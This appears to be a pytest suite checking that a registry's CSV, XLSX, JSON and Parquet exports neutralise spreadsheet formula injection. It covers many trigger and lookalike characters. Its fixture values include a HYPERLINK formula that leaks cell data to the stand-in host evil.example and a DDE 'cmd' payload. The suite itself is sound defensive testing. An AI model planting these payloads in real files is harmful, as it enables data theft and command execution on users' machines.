"""Exports are safe to open in a spreadsheet, and exact where they should be (OWASP CSV injection).

Every trigger character (= + - @ tab CR), full-width and small lookalikes, and blanks before a
trigger, in every text column: in CSV the cell gets one leading apostrophe (and nothing else
changes); in XLSX no cell is a formula and the text is kept exactly; JSON and Parquet round-trip
exactly. Extends test_export.py's one-row check.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import unicodedata
import zipfile

import openpyxl
import pandas as pd
import pytest

import registry
from registry import EXPORT_COLUMNS, Filters
from registry.export import DATE_COLUMNS, FORMULA_TRIGGERS, about_sheet, defuse, undefuse

AS_OF = dt.date(2024, 2, 2)
TEXT_COLUMNS = [c for c in EXPORT_COLUMNS if c not in DATE_COLUMNS]
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"open")'
DDE = "cmd|' /C calc'!A0"

STARTS = {
    "equals": "=",
    "plus": "+",
    "minus": "-",
    "at": "@",
    "tab": "\t",
    "carriage-return": "\r",
    "full-width-equals": "\uff1d",  # ＝
    "full-width-plus": "\uff0b",  # ＋
    "full-width-minus": "\uff0d",  # －
    "full-width-at": "\uff20",  # ＠
    "small-equals": "\ufe66",  # ﹦
    "space-then-equals": " =",
    "spaces-then-plus": "  +",
    "no-break-space-then-at": "\u00a0@",
    "newline-then-equals": "\n=",
    "tab-then-minus": "\t-",
    "apostrophe-then-equals": "'=",  # already looks defused: must survive the round trip too
}


def hostile_rows(small_reg, start: str) -> pd.DataFrame:
    """The fixture's rows with every text column set to a formula that names its column."""
    rows = registry.select(small_reg, Filters(as_of=AS_OF)).copy()
    for i, col in enumerate(TEXT_COLUMNS):
        value = f"{start}{PAYLOAD if i % 2 else DDE} {col}"
        rows[col] = pd.Series([value] * len(rows), index=rows.index, dtype="str")
    return rows


def is_formula_start(text: str) -> bool:
    first = text.lstrip()[:1]
    return text.startswith(FORMULA_TRIGGERS) or (bool(first) and unicodedata.normalize("NFKC", first) in FORMULA_TRIGGERS)


@pytest.mark.parametrize("start", list(STARTS.values()), ids=list(STARTS))
def test_csv_cells_cannot_run_and_stay_recognisable(small_reg, start):
    rows = hostile_rows(small_reg, start)
    data = registry.export_bytes(rows, "csv")
    records = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    header, body = records[0], records[1:]
    assert header == EXPORT_COLUMNS and len(body) == len(rows) == 7
    for record in body:
        for col, value in zip(header, record):
            if col in DATE_COLUMNS:
                continue
            expected = f"{start}{PAYLOAD if TEXT_COLUMNS.index(col) % 2 else DDE} {col}"
            assert value == "'" + expected, (col, value)  # one apostrophe in front, nothing else changed
            assert not is_formula_start(value)
            assert undefuse(value) == expected


@pytest.mark.parametrize("start", list(STARTS.values()), ids=list(STARTS))
def test_xlsx_has_no_formula_and_keeps_the_text(small_reg, start):
    rows = hostile_rows(small_reg, start)
    f = Filters(q=f"{start}SUM(1)", as_of=AS_OF)
    data = registry.export_bytes(rows, "xlsx", about_sheet(small_reg, f))
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name  # no formula element at all
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    sheet = book["designations"]
    header = [c.value for c in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        for col, c in zip(header, row):
            if col in DATE_COLUMNS:
                continue
            expected = f"{start}{PAYLOAD if TEXT_COLUMNS.index(col) % 2 else DDE} {col}"
            # XML keeps a lone carriage return as a line feed; every other character comes back as written.
            assert c.value in (expected, expected.replace("\r", "\n")), (col, c.value)
    about = {r[0].value: r[1].value for r in book["about"].iter_rows(min_row=2)}
    assert about["filter: q"] in (f"{start}SUM(1)", f"{start}SUM(1)".replace("\r", "\n"))


@pytest.mark.parametrize("start", list(STARTS.values()), ids=list(STARTS))
def test_json_and_parquet_keep_every_value_exactly(small_reg, start):
    rows = hostile_rows(small_reg, start)
    frame = registry.export.export_frame(rows)
    records = json.loads(registry.export_bytes(rows, "json"))
    assert [list(r) for r in records] == [EXPORT_COLUMNS] * len(records)
    for record, (_, row) in zip(records, frame.iterrows()):
        for col in TEXT_COLUMNS:
            assert record[col] == row[col]
    parquet = pd.read_parquet(io.BytesIO(registry.export_bytes(rows, "parquet")))
    for col in TEXT_COLUMNS:
        assert parquet[col].tolist() == frame[col].tolist()


@pytest.mark.parametrize(
    "value",
    ["North Wind", "Северный ветер", "2022/350", "№ 5", "O'Brien", "a=b", "C++ Weekly", "mail@example.org", "", "‐dash", "−5"],
)
def test_ordinary_values_are_not_touched(value):
    """Only what a spreadsheet could run is prefixed: an ordinary value is exported as it is."""
    assert defuse(value) == value and undefuse(value) == value


@pytest.mark.parametrize("value", [*STARTS.values(), "'", "''", "'x", "=", " ", "\uff1d\uff1d"])
def test_defuse_is_undone_exactly(value):
    assert undefuse(defuse(value)) == value
    assert not is_formula_start(defuse(value))
